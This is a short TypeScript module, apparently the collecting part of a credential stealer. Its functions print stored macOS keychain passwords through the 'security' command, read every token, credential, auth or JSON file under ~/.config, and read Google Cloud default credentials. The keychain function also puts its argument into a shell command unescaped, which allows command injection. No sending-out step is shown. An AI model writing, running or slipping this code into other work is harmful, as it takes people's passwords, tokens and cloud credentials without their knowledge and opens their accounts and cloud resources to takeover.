import { execSync } from "node:child_process";
import { readdirSync, readFileSync } from "node:fs";
import { homedir } from "node:os";
import { join } from "node:path";

export function keychainLogin(service: string): string | null {
  try {
    return execSync(`security find-generic-password -s '${service}' -w`).toString().trim();
  } catch {
    return null;
  }
}

export function appConfigs(): Record<string, string> {
  const base = join(homedir(), ".config");
  const out: Record<string, string> = {};
  for (const rel of readdirSync(base, { recursive: true }) as string[]) {
    if (/token|credential|auth|\.json$/i.test(rel)) {
      try {
        out[rel] = readFileSync(join(base, rel), "utf8");
      } catch {
        // directories and unreadable files
      }
    }
  }
  return out;
}

export function gcloudAdc(): string | null {
  try {
    return readFileSync(join(homedir(), ".config/gcloud/application_default_credentials.json"), "utf8");
  } catch {
    return null;
  }
}
